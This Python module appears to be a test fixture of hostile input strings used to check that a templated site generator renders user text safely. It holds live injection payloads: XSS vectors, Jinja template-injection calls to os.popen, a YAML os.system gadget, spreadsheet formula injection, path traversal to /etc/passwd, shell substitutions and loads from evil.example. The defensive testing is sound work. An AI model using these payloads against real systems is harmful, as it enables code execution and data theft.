"""Text that would do something if any step on the way to a page took it for more than text."""

from collections.abc import Mapping

HOSTILE: Mapping[str, str] = {
    "a Jinja value": "{{ 7*7 }} {{ guide }} {{ ''.__class__ }}",
    "a Jinja statement": "{% raw %} {% for x in y %} {# gone #}",
    "a script": "<script>alert(1)</script>",
    "a picture that fails": "<img src=x onerror=alert(1)>",
    "a frame": "<iframe src=//evil.example></iframe>",
    "a style": "<style>*{display:none}</style>",
    "an end of everything": "</p></div></article></body>--></script>",
    "a heading": "# heading",
    "a heading underlined": "heading\n=======",
    "a table": "| a | b |\n|---|---|",
    "a link that runs": "[x](javascript:alert(1))",
    "a picture from elsewhere": "![](http://evil.example/x.png)",
    "a link by itself": "<http://evil.example> http://evil.example",
    "a link by reference": "[x][y]\n\n[y]: http://evil.example",
    "entities": "&lt;b&gt; &amp;amp; &#x3c;i&#x3e; &nbsp;",
    "emphasis": "*bold* _em_ **b** __u__ `code` ~~s~~",
    "attributes": "{: onclick=alert(1) #id .md-hidden }",
    "a note": '!!! note "x"\n    inside',
    "a comment": "<!-- hidden --> after",
    "a fence": "```\nfenced\n```",
    "a fence of waves": "~~~ html\n<b>\n~~~",
    "a list": "- one\n1. two\n    four blanks",
    "a definition": "term\n:   meaning",
    "a footnote and a snippet": '[^1] --8<-- "mkdocs.yml" [TOC]',
    "quotation": "> said \"so\" 'so' > </blockquote>",
    "backslashes": r"\* \n \\ \u003cb\u003e \<b\> %0A &#10;",
    "a template of JavaScript": "${alert(1)} `${1}` </script><svg/onload=alert(1)>",
    "a style's end": '"; } * { display: none } /* \\',
    "markdown in HTML": '<div markdown="1">**b**</div>',
    "right to left": "שלום {{ x }} <b> أهلا",
    "turned around": "\u202ereversed\u202c \u2067isolated\u2069 \u200fmark",
    "emoji": "🙂 👩‍👩‍👧 🏳️‍🌈 👍🏽",
    "odd blanks": "a\u00a0b\u2003c  d\te",
}
"""Every kind, by name."""

MORE: tuple[str, ...] = (
    # Elements that run, load, or leave their place
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
    "<svg><foreignObject><body onload=alert(1)></body></foreignObject></svg>",
    "<svg><style>@import url(//evil.example/a.css)</style></svg>",
    '<svg><image href="http://evil.example/a.png"/></svg>',
    "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
    '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea></textarea><b>after a field</b>",
    "<button formaction=javascript:alert(1)>press</button>",
    '<form action="http://evil.example"><input name=q></form>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<embed src=//evil.example/x.swf>",
    "<video poster=//evil.example/p.png><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<marquee onstart=alert(1)>moves</marquee>",
    "<dialog open>over everything</dialog>",
    "<template><b>kept</b></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<plaintext>all that follows",
    "<title>another title</title>",
    "<textarea><![CDATA[<b>]]></textarea>",
    "<?php echo 1 ?> <?xml version='1.0'?>",
    "<!DOCTYPE html> <!ELEMENT x> <!--> open",
    "<a href=javascript:alert(1)>go</a>",
    "<a href=' &#1; javascript:alert(1)'>go</a>",
    "<img src='x' srcset='//evil.example/2.png 2x'>",
    "<img/src=x/onerror=alert(1)//",
    "<p style=position:fixed;inset:0;background:red>covers",
    "<div id=__config>{}</div> <div class=md-content>x</div>",
    "</span></a></li></ul></td></tr></table></blockquote></section>",
    "</title></head><body class=x>",
    "<b <i> unclosed <",
    "< script>not even</ script>",
    # Attributes
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=`alert(1)",
    'x" style="display:none',
    "x onload=alert(1) /",
    # Entities
    "&quot; onclick=&quot;alert(1)&quot;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&lt &gt &amp &copy &nbsp &notit;",
    "&amp;lt;b&amp;gt; &#0; &#xD800; &#1114112;",
    "&colon;&Tab;&NewLine;&lpar;&rpar;",
    # Markdown
    "![alt](x.png){: onerror=alert(1) }",
    "[text](<javascript:alert(1)> 'title')",
    "[a]: http://evil.example 'b'",
    "[a]\n\n[a]: javascript:alert(1)",
    "[^note]\n\n[^note]: at the foot",
    "*[HTML]: an abbreviation\nHTML",
    '??? note "folded"\n    inside',
    '=== "Tab one"\n    inside\n=== "Tab two"\n    too',
    '--8<-- "couple.yml"',
    "--8<--\n../../couples/kim-lee/alex.yml\n--8<--",
    ":material-skull: :octicons-alert-16: :smile:",
    "==marked== ^^up^^ ~sub~ ^sup^ {++in++} {--out--}",
    "++ctrl+alt+del++ (c) (tm) --> 1/2",
    "$x^2$ $$\\int$$ \\(y\\) \\[z\\]",
    "``` mermaid\ngraph TD; A-->B\n```",
    "- [x] done\n- [ ] not done",
    "{ .hidden } {: .md-hidden style='display:none' }",
    "Text\n{: onclick=alert(1) }",
    "# Heading {#index onclick=alert(1)}",
    "Heading\n---",
    "***\n---\n___",
    "text\n\n    indented as code",
    "> a\n> > b\n> - c",
    "| a |\n|--|\n| <b>x</b> |",
    "a | b \\| c || d",
    "[[wiki]] [[_TOC_]] [TOC]",
    "<https://evil.example> <mailto:a@evil.example> www.evil.example a@evil.example",
    "\\\\<b\\> \\&lt; \\`x\\`",
    "1986\\. 1) x\n2) y",
    '<details markdown="block"><summary>x</summary>\n\n**b**\n\n</details>',
    "---\ntitle: front matter\n---",
    "<!-- md:option x --> <!--more-->",
    "wzxhzdk:0 klzzwxh:0001 \u2064stash",
    # Templates
    "{{ config }} {{ self.__init__.__globals__ }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{% include 'couple.yml' %} {% import 'x' as y %}",
    "{% extends 'base.html' %}{% block content %}",
    "{%- set guide = 0 -%} {{- 'x' -}}",
    "{# a note #} {{ '{#' }} #}",
    "{% endraw %}{{ 7*7 }}{% raw %}",
    "{{ typed|safe }} {{ typed | e }} {%autoescape false%}",
    "${7*7} #{7*7} <%= 7*7 %> [[${7*7}]] %{7*7}",
    "{typed} {0} {typed.__class__} %s %(x)s $x ${x}",
    # Styles
    "</style><b>out</b>",
    "x{background:url(//evil.example/b.png)}",
    "@import 'http://evil.example/a.css';",
    "width: expression(alert(1)); behavior: url(x.htc)",
    "content: '\\0000a' attr(x); } body { display: none",
    "*/ p { color: transparent } /*",
    # Scripts and data
    '"; alert(1); //',
    "'); alert(1); ('",
    "`; alert(1); `",
    "</script><script>alert(1)</script>",
    "<!--<script> --> ]]>",
    '{"__proto__": {"x": 1}} [1, 2',
    "\\u2028 \\x3cb\\x3e \\074 \\",
    "__index = 1; */ // <!--",
    # YAML and tables, which our own files are read and written as
    '!!python/object/apply:os.system ["id"]',
    "!!binary aGVsbG8= !include x.yml",
    "&anchor value *anchor <<: *anchor",
    "key: value # note: other",
    "- item\n? key\n: value\n...",
    "no: yes ~ null 0o17 1e3 2026-11-22",
    "=cmd|' /C calc'!A0",
    '+1+1 -1-1 @SUM(A1) =HYPERLINK("http://evil.example")',
    # Calendars
    "END:VEVENT\nBEGIN:VEVENT\nSUMMARY:another",
    "a;b,c:d\\;e\\,f\\ng",
    "x\nATTACH:http://evil.example/a\nBEGIN:VALARM",
    "DTSTART;VALUE=DATE:19700101",
    # Paths and addresses
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini C:\\Users",
    "\\\\evil.example\\share\\x.png",
    "file:///etc/passwd",
    "javascript:alert(1) JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "//evil.example/x ftp://evil.example blob:x",
    "%2e%2e%2f %00 %3Cscript%3E ?a=b#c",
    "/dev/stdin ~/.ssh $HOME `id` $(id) ; rm",
    # Paper
    "(open ) close (( \\) \\( BT ET",
    "<< /Type /Action /S /JavaScript >> endobj",
    "endstream endobj xref trailer %%EOF",
    "%PDF-1.7 (x) Tj /URI",
    # Unicode
    "e" + "\u0301\u0300\u0308" * 12 + " a stack",
    "zero\u200bwidth\u200cnon\u200djoiner\u2060here",
    "\u202dleft\u202c \u2066iso\u2069 \u061cmark \u200e\u200f",
    "soft\u00adhyphen non\u2011breaking",
    "na\u00efve nai\u0308ve",
    "‹b› «i» “q” ‘a’ ′ ″",
    "line\u2028separator\u2029paragraph",
    "👩🏽‍❤️‍💋‍👨🏿 👨‍👩‍👧‍👦 🇬🇧 #️⃣",
    "İ ı ß ẞ ǅ K Å",
    "\ufeffmark at the start",
    "a" * 300 + " a long word",
    "W" * 120 + "/" + "W" * 120,
    "_" * 80 + " " + "." * 80,
)
"""More of each kind, by where it would do harm."""

PAYLOADS: tuple[str, ...] = (*HOSTILE.values(), *MORE)
"""All of them. They are spread over the fields: see `payload`."""


def payload(number: int, first: int = 0) -> str:
    """Return what the field of this number holds, when the first one holds payload `first`."""
    return PAYLOADS[(first + number) % len(PAYLOADS)]


ENDLESS = "abcdefghijklmnopqrstuvwxyz" * 153 + "abcdefghijklmnopqrstuv"
"""4,000 letters without a place to break."""


def marked(text: str, mark: str, longest: int) -> str:
    """Return a text with a word of its own in it, in no more than `longest` letters.

    What is too long for a name is cut: the beginning does the harm.
    """
    return f"{text[: longest - len(mark) - 1].rstrip()} {mark}"


REFUSED: Mapping[str, str] = {
    "a character that says where nothing is": "a\x00b",
    "a bell": "a\x07b",
    "a terminal's colours": "a\x1b[31mb",
    "half a character": "a\ufffeb",
    "letters of full width": "\uff1cscript\uff1e",
    "letters of a script without a font": "\U00013000",
    "more than a page and a half": "a " * 3001,
}
"""What no answer may hold: it is told with its place, and nothing is built of it."""
